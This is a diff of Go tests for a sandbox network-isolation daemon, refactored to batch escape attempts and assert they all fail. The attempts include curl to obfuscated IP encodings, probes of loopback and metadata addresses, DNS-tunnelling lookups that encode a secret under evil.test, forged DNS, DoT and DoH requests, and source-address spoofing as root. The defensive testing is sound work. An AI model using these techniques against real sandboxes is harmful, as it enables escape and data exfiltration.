@@ -40,15 +40,15 @@ func TestAttackDirectAddress(t *testing.T) {
 		id := create(t, d, strict)
 		works(t, d, id, curl("http://example.com/"))
 		check := untouched(t, n, "tcp 203.0.113.66:80", "tcp 203.0.113.66:443", "tcp 203.0.113.66:22", "tcp 203.0.113.66:7", "udp 203.0.113.66:7")
-		for _, addr := range []string{"203.0.113.66", "3405803842", "0xcb007142", "0313.0.0161.0102", "203.113.66", "[::ffff:203.0.113.66]", "[::ffff:cb00:7142]"} {
-			fails(t, d, id, curl("http://"+addr+"/", "--globoff"))
-			fails(t, d, id, curl("https://"+addr+"/", "--globoff", "-k"))
+		attempts := []string{
+			python(`s = socket.create_connection(("203.0.113.66", 22), 5); s.settimeout(5); assert s.recv(10)`),
+			python(`u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2); u.sendto(b"x", ("203.0.113.66", 7)); u.recv(10)`),
+			ping("203.0.113.66"),
 		}
-		fails(t, d, id, python(`
-s = socket.create_connection(("203.0.113.66", 22), 5); s.settimeout(5); assert s.recv(10)`))
-		fails(t, d, id, python(`
-u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2); u.sendto(b"x", ("203.0.113.66", 7)); u.recv(10)`))
-		fails(t, d, id, ping("203.0.113.66"))
+		for _, addr := range []string{"203.0.113.66", "3405803842", "0xcb007142", "0313.0.0161.0102", "203.113.66", "[::ffff:203.0.113.66]", "[::ffff:cb00:7142]"} {
+			attempts = append(attempts, curl("http://"+addr+"/", "--globoff"), curl("https://"+addr+"/", "--globoff", "-k"))
+		}
+		allFail(t, d, id, attempts...)
 		check()
 	})
 }
@@ -132,24 +132,23 @@ func TestAttackHostsWorld(t *testing.T) {
 	t.Run("users", func(t *testing.T) {
 		shared(t, func(t *testing.T, d *covetest.Daemon) {
 			id := create(t, d, sandbox.NetworkPolicy{})
+			var attempts []string
 			for _, a := range internet.Private {
-				fails(t, d, id, curl("http://"+a.String()+"/", "--max-time 5"))
-				fails(t, d, id, python(`
+				attempts = append(attempts, ping(a.String()), curl("http://"+a.String()+"/", "--max-time 5"), python(`
 u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(1); u.sendto(b"x", ("`+a.String()+`", 7)); u.recv(10)`))
-				fails(t, d, id, ping(a.String()))
 			}
 			hosts := []string{
 				"127.0.0.1", "127.1.2.3", "0.0.0.0", "192.0.2.2", "169.254.77.1", "169.254.77.2", "169.254.77.3", "localhost", "[::1]",
 				"[::ffff:127.0.0.1]", "[::ffff:192.0.2.2]", "self.test", "loopback.test",
 			}
 			for _, h := range hosts {
-				fails(t, d, id, curl("http://"+h+":7777/", "--globoff", "--max-time 5"))
 				_, port, _ := net.SplitHostPort(strings.TrimPrefix(d.URL, "http://"))
-				fails(t, d, id, curl("http://"+h+":"+port+"/v1/sandboxes", "--globoff", "--max-time 5"))
+				attempts = append(attempts, curl("http://"+h+":7777/", "--globoff", "--max-time 5"), curl("http://"+h+":"+port+"/v1/sandboxes", "--globoff", "--max-time 5"))
 			}
 			for _, name := range []string{"intranet.test", "metadata.test"} {
-				fails(t, d, id, curl("http://"+name+"/", "--max-time 5"))
+				attempts = append(attempts, curl("http://"+name+"/", "--max-time 5"))
 			}
+			allFail(t, d, id, attempts...)
 			// Where one of two addresses is private, the other may be used.
 			if out, code := try(t, d, id, curl("http://mixed.test/")); code == 0 {
 				if r := asked(t, out); r.Address != "198.51.100.10:80" {
@@ -204,18 +203,16 @@ func TestAttackTunnelByNames(t *testing.T) {
 	t.Run("users", func(t *testing.T) {
 		shared(t, func(t *testing.T, d *covetest.Daemon) {
 			id := create(t, d, strict)
-			fails(t, d, id, "getent hosts c2VjcmV0."+id+".evil.test")
-			fails(t, d, id, "getent hosts c2VjcmV0."+id+".example.com.evil.test")
+			attempts := []string{"getent hosts c2VjcmV0." + id + ".evil.test", "getent hosts c2VjcmV0." + id + ".example.com.evil.test"}
 			question := `b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04evil\x04test\x00\x00\x01\x00\x01"`
 			for _, a := range []string{"203.0.113.66", "1.1.1.1", "8.8.8.8"} {
-				fails(t, d, id, python(`
-u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2); u.sendto(`+question+`, ("`+a+`", 53)); u.recv(512)`))
-				fails(t, d, id, python(`
+				attempts = append(attempts, python(`
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2); u.sendto(`+question+`, ("`+a+`", 53)); u.recv(512)`), python(`
 q = `+question+`
-s = socket.create_connection(("`+a+`", 53), 3); s.settimeout(3); s.sendall(bytes([0, len(q)]) + q); assert s.recv(512)`))
-				fails(t, d, id, curl("https://"+a+":853/", "-k", "--max-time 5"))
-				fails(t, d, id, curl("https://"+a+"/dns-query?dns=AAAB", "-k", "--max-time 5"))
+s = socket.create_connection(("`+a+`", 53), 3); s.settimeout(3); s.sendall(bytes([0, len(q)]) + q); assert s.recv(512)`),
+					curl("https://"+a+":853/", "-k", "--max-time 5"), curl("https://"+a+"/dns-query?dns=AAAB", "-k", "--max-time 5"))
 			}
+			allFail(t, d, id, attempts...)
 			if names := n.Asked(id + ".evil.test"); len(names) > 0 {
 				t.Errorf("names that went out: %v", names)
 			}
@@ -248,15 +245,24 @@ func TestAttackForgedPackets(t *testing.T) {
 			other := `
 import subprocess
 subprocess.run("ip addr add 169.254.77.3/30 dev eth0; ip addr add 10.9.9.9/24 dev eth0; ip addr add 203.0.113.66/32 dev eth0; ip addr add 169.254.77.1/32 dev eth0", shell=True)
+def connect(src, dst):
+    try:
+        s = socket.socket(); s.settimeout(1); s.bind((src, 0)); s.connect(dst); s.sendall(b"GET / HTTP/1.0\r\nHost: example.com\r\n\r\n"); said = f"connected {src} {dst} {s.recv(100)}\n"
+    except OSError as e: said = f"{src} {dst} {e}\n"
+    sys.stdout.write(said)
+attempts = []
 for src in ["169.254.77.3", "10.9.9.9", "203.0.113.66", "169.254.77.1"]:
     for dst in [("203.0.113.66", 80), ("10.0.0.5", 80), ("198.51.100.10", 80)]:
-        try:
-            s = socket.socket(); s.settimeout(1); s.bind((src, 0)); s.connect(dst); s.sendall(b"GET / HTTP/1.0\r\nHost: example.com\r\n\r\n"); print("connected", src, dst, s.recv(100))
-        except OSError as e: print(src, dst, e)
+        attempts.append(threading.Thread(target=connect, args=(src, dst)))
+        attempts[-1].start()
+for a in attempts: a.join()
 # A sandbox whose address is the gateway's has cut itself off.
 subprocess.run("for a in 169.254.77.3/30 10.9.9.9/24 203.0.113.66/32 169.254.77.1/32; do ip addr del $a dev eth0; done", shell=True)
 `
-			out, _ := root(python(other))
+			out, code := root(python(other))
+			if code != 0 || strings.Count(out, "\n") < 12 {
+				t.Errorf("not all was tried: exit code %d\n%s", code, out)
+			}
 			for line := range strings.Lines(out) {
 				// Its own new address is the sandbox's, and nobody's outside.
 				if strings.HasPrefix(line, "connected") && !strings.Contains(line, "203.0.113.66 ('203.0.113.66'") {
@@ -294,10 +300,12 @@ func TestAttackHiddenNames(t *testing.T) {
 		shared(t, func(t *testing.T, d *covetest.Daemon) {
 			id := create(t, d, strict)
 			works(t, d, id, "getent hosts example.com")
+			var attempts []string
 			for _, a := range []string{"198.51.100.10", "203.0.113.66"} {
-				fails(t, d, id, python(`
+				attempts = append(attempts, python(`
 u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2); u.sendto(b"\xc3\0\0\0\1" + bytes(1200), ("`+a+`", 443)); u.recv(10)`))
 			}
+			allFail(t, d, id, attempts...)
 		})
 	})
 	check()
